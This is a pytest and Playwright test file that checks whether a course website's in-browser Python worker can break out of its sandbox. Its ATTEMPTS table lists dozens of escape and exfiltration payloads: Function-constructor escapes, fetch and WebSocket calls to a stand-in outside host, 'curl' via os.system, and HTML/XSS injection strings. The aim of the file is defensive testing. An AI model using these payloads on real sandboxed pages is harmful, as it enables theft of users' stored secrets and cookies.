"""A learner's code stays in its worker: it reaches no other host, no page and nothing stored."""

import re
from difflib import unified_diff

import pytest
from playwright.sync_api import expect

from evidence.browser import serve, watch
from tests.course.browser.faults import faulty_server
from tests.course.browser.learner import PATIENCE, Learner
from tests.course.built_book import build_book
from tests.lanes import long_but_some

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("escapes")]

NAME, CELL = "rnn-cell", "pre_activation"
SECRET = "swordfish"
TOOLS = '''
import asyncio, gc, importlib, json, os, sys
from pyodide.ffi import JsProxy, create_proxy, to_js

def proxies():
    """All objects of JavaScript's that Python holds anywhere."""
    return [each for holder in gc.get_objects() for each in gc.get_referents(holder)
            if isinstance(each, JsProxy)]

def having(name):
    return next(each for each in proxies() if hasattr(each, name))

emit = next(each for each in proxies() if "kind" in str(each))
evaluate = lambda source: emit.constructor(source)()
'''
WITH_CODE = {
    "fetch": "return fetch('{elsewhere}')",
    "import": "return import('{elsewhere}/x.js')",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', '{elsewhere}'); x.send()",
    "WebSocket": "new WebSocket('{elsewhere}'.replace('http', 'ws'))",
    "EventSource": "new EventSource('{elsewhere}')",
    "importScripts": "importScripts('{elsewhere}/x.js')",
    "sendBeacon": "navigator.sendBeacon('{elsewhere}', 'x')",
    "WebRTC": "new RTCPeerConnection({{ iceServers: [{{ urls: '{elsewhere}' }}] }}).createOffer()",
    "a worker without a policy": "new Worker('../tab/worker.js', {{ type: 'module' }})",
    "BroadcastChannel": "new BroadcastChannel('x').postMessage('x')",
    "indexedDB": "return indexedDB.open('secret')",
    "caches": "return caches.open('secret')",
    "the page": "parent.document.title = 'taken'; postMessage({{ kind: 'done', number: 1 }})",
}
"""What JavaScript would do if any could be evaluated."""
ATTEMPTS = {
    "js": "import js\njs.fetch('{elsewhere}')",
    "pyodide_js": "import pyodide_js\npyodide_js._module.API",
    "run_js": "from pyodide.code import run_js\nrun_js(\"fetch('{elsewhere}')\")",
    "pyfetch": "from pyodide.http import pyfetch\nasyncio.ensure_future(pyfetch('{elsewhere}'))",
    "open_url": "from pyodide.http import open_url\nopen_url('{elsewhere}')",
    "a module of JavaScript's": "from _pyodide._importhook import register_js_module as r\n"
    "r('js', emit.constructor)\nimport js\njs.constructor('return fetch(\"{elsewhere}\")')()",
    "the finder of modules": "from _pyodide._importhook import jsfinder\n"
    "sys.meta_path.insert(0, jsfinder)\nimport js, pyodide_js",
    "core": "import _pyodide_core\n_pyodide_core.js2py_default(emit.constructor)('fetch')",
    "modules anew": "import _pyodide._importhook as hook\nimportlib.reload(hook)\nimport js",
    "a function's maker": "emit.constructor.constructor('return fetch(\"{elsewhere}\")')()",
    "an asynchronous function's maker": "having('_module').runPythonAsync.constructor("
    "'return fetch(\"{elsewhere}\")')()",
    "a method's maker": "having('_module').constructor.constructor('return self')()",
    "text for a timer": "import pyodide.webloop as loop\n"
    "loop.scheduleCallback(\"fetch('{elsewhere}')\", 10)",
    "a lazy file": "having('_module')._module.FS_createLazyFile("
    "'/tmp', 'lazy', '{elsewhere}', True, False)\nprint(open('/tmp/lazy').read())",
    "a file to load": "having('_module')._module.FS_createPreloadedFile("
    "'/tmp', 'loaded', '{elsewhere}', True, False)",
    "a binary file": "having('loadBinaryFile').loadBinaryFile('{elsewhere}')",
    "a package": "having('loadPackage').loadPackage('{elsewhere}/x-1-py3-none-any.whl')",
    "the lock's address": "api = having('loadPackage')\napi.lockfileBaseUrl = '{elsewhere}/'\n"
    "api.loadPackage('micropip')",
    "IndexedDB": "print(having('_module')._module.IDBFS.indexedDB().open('secret'))",
    "a file system in IndexedDB": "m = having('_module')._module\nm.FS_mkdir('/secret')\n"
    "m.FS_mount(m.IDBFS, to_js({{}}), '/secret')\nm.FS_syncfs(True, create_proxy(print))\n"
    "print(os.listdir('/secret'))",
    "a socket": "import socket\nsocket.create_connection(('127.0.0.1', {port}), 2).send(b'x')",
    "a web socket": "m = having('_module')._module\nm.SOCKFS.websocketArgs = to_js({{}})\n"
    "import socket\ns = socket.socket()\ns.setblocking(False)\ns.connect(('127.0.0.1', {port}))",
    "urllib": "import urllib.request\nurllib.request.urlopen('{elsewhere}', timeout=2)",
    "http.client": "import http.client\nc = http.client.HTTPConnection('127.0.0.1', {port})\n"
    "c.request('GET', '/')",
    "asyncio": "c = asyncio.open_connection('127.0.0.1', {port})\nasyncio.ensure_future(c)",
    "a process": "os.system('curl {elsewhere}')",
    "a fork": "import subprocess\nsubprocess.run(['curl', '{elsewhere}'])",
    "emscripten's script": "import ctypes\n"
    "ctypes.CDLL(None).emscripten_run_script(b\"fetch('{elsewhere}')\")",
    "emscripten's fetch": "m = having('_module')._module\n"
    "m._emscripten_run_script(\"fetch('{elsewhere}')\")",
    "emscripten's worker": "m = having('_module')._module\nm._emscripten_create_worker(0)",
    "the disk": "api = having('loadPackage')\napi.mountNativeFS('/disk', emit)",
    "a file of the site": "os.mkdir('/tab')\nopen('/tab/worker.js', 'w').write('x')\n"
    "print(os.environ, os.listdir('/'))",
    "a picture of elsewhere": "emit('{cell}', json.dumps(dict(output_type='display_data', "
    "data={{'image/png': 'x\" src=\"{elsewhere}', 'text/plain': '\" onerror=\"x'}})))",
    "markup of another kind": "emit('{cell}', json.dumps(dict(output_type='display_data', "
    "data={{'text/html': '<img src={elsewhere}>'}})))",
    "a class of the page's": "emit('{cell}', json.dumps(dict("
    "output_type='stream', name='stdout tab-bar', text='over the page')))",
    "another cell": "emit('progress', json.dumps(dict("
    "output_type='stream', name='stdout', text='x')))",
    "a cell that is none": "emit('\"]<img src={elsewhere}>', json.dumps(dict("
    "output_type='begin')))",
    "an output of no form": "for each in ({{}}, [], dict(output_type='error', traceback=5)):\n"
    "    emit('{cell}', json.dumps(each))",
    "printed markup": "print('<img src={elsewhere} onerror=fetch(1)><script>fetch(1)</script>')",
    "markup in an error": "raise ValueError('<img src={elsewhere}>')",
    "markup in a name": "globals()['<img src={elsewhere}>']()",
    "markup in a type": "raise type('<img src={elsewhere}>', (Exception,), {{}})()",
    "markup in a value": "class A:\n    def _repr_html_(self): return '<img src={elsewhere}>'\n"
    "    __repr__ = _repr_html_\nA()",
    "markup in a warning": "import warnings\nwarnings.warn('<img src={elsewhere}>')",
    "markup in a figure": "import matplotlib.pyplot as plt\n"
    "plt.title('<img src={elsewhere}>', url='{elsewhere}');",
    **{f"code: {name}": f"evaluate({code!r})" for name, code in WITH_CODE.items()},
}
STRUCTURE = """() => {
  const copy = document.documentElement.cloneNode(true);
  const all = (names) => copy.querySelectorAll(names);
  const changing = "head, .tab-outputs, .tab-bar, .tab-top [role=status]";
  for (const each of all(changing)) each.replaceChildren();
  for (const each of all(".cm-editor, textarea")) each.replaceWith("an editor, or its field");
  for (const each of all("body, nav *")) each.removeAttribute("class");
  for (const each of all(".tab-bar")) each.dataset.phase = "";
  for (const each of all("pre")) each.removeAttribute("tabindex");
  all("#pst-back-to-top").forEach((each) => each.removeAttribute("style"));
  return copy.outerHTML;
}"""
"""The page without outputs, editors, the bar, notices, and what follows the reader's place."""
REMEMBER = """async (secret) => {
  localStorage.secret = secret;
  await (await caches.open("secret")).put("/secret", new Response(secret));
  await new Promise((resolve, reject) => {
    const opening = indexedDB.open("secret");
    opening.onupgradeneeded = () => opening.result.createObjectStore("s").put(secret, "k");
    opening.onsuccess = resolve;
    opening.onerror = reject;
  });
}"""


class Attacker(Learner):
    """Runs hostile code in a page that keeps a secret, beside a server elsewhere that counts."""

    def __init__(self, page, site, elsewhere):
        page.context.add_cookies([{"name": "secret", "value": SECRET, "url": site}])
        super().__init__(page, site, NAME)
        page.evaluate(REMEMBER, SECRET)
        self.elsewhere = elsewhere
        self.changes: list[str] = []

    def attack(self, code):
        """Run code; return its outputs."""
        names = {"elsewhere": self.elsewhere.address, "cell": CELL}
        text = code.format(**names, port=self.elsewhere.server_port)
        self.write(CELL, TOOLS + text)
        before = self.page.evaluate(STRUCTURE)
        self.press("Run", self.cell(CELL))
        expect(self.page.locator(".tab-bar")).to_have_attribute(
            "data-phase", re.compile("ready|failed"), timeout=PATIENCE
        )
        self.page.wait_for_timeout(200)  # for what was begun and has not ended
        after = self.page.evaluate(STRUCTURE)
        self.changes = list(unified_diff(*(each.split("<") for each in (before, after)), n=1))
        return self.cell(CELL).locator(".tab-outputs")


@pytest.fixture(scope="module")
def elsewhere(tmp_path_factory):
    """Another host: a server with another port."""
    with faulty_server(tmp_path_factory.mktemp("elsewhere")) as server:
        yield server


@pytest.fixture(scope="module")
def attacker(site, browser, elsewhere):
    context = browser.new_context()
    log = watch(context)
    attacker = Attacker(context.new_page(), site, elsewhere)
    attacker.log = log
    yield attacker
    context.close()


@pytest.mark.parametrize("attempt", long_but_some(ATTEMPTS, every=3))
def test_code_reaches_nothing_but_its_outputs(attacker, site, elsewhere, attempt):
    attacker.log.requests.clear()
    elsewhere.requests.clear()
    outputs = attacker.attack(ATTEMPTS[attempt])
    assert elsewhere.requests == [] and attacker.log.elsewhere(site) == []
    assert not attacker.changes, "<".join(attacker.changes)
    assert SECRET not in outputs.inner_text()
    kinds = "nodes => nodes.map(({ tagName, className }) => `${tagName} ${className}`)"
    allowed = {f"PRE tab-output tab-{each}" for each in ("stdout", "stderr", "error")}
    allowed |= {"PRE tab-output", "IMG tab-figure"}
    assert set(outputs.locator("*").evaluate_all(kinds)) <= allowed
    sources = outputs.locator("img").evaluate_all("nodes => nodes.map(({ src }) => src)")
    assert all(each.startswith("data:image/png;base64,") for each in sources)


def test_the_page_lives_on_after_all_attempts(attacker):
    attacker.write(CELL, "print('alive')")
    expect(attacker.run(CELL)).to_have_text("alive\n")
    assert attacker.page.evaluate("localStorage.secret") == SECRET


def test_without_the_policy_code_would_leave_the_page(browser, elsewhere, tmp_path):
    """The control: the same attempt gets through where a page has no policy."""
    for path in build_book().iterdir():
        if path.name != "do":
            (tmp_path / path.name).symlink_to(path)
    (tmp_path / "do").mkdir()
    page = (build_book() / "do" / f"{NAME}.html").read_text("utf-8")
    without = re.sub("<meta http-equiv=.Content-Security-Policy[^>]*>", "", page)
    assert without != page
    (tmp_path / "do" / f"{NAME}.html").write_text(without, "utf-8")
    with serve(tmp_path) as site:
        context = browser.new_context()
        attacker = Attacker(context.new_page(), site, elsewhere)
        attacker.attack(ATTEMPTS["code: import"])
        attacker.page.wait_for_timeout(1000)
        asked = [path for path, _ in elsewhere.requests]
        elsewhere.requests.clear()
        assert asked == ["/x.js"]
        outputs = attacker.attack("print(evaluate('return typeof indexedDB + typeof fetch'))")
        expect(outputs).to_have_text("undefinedundefined\n")  # the second wall stands
        context.close()
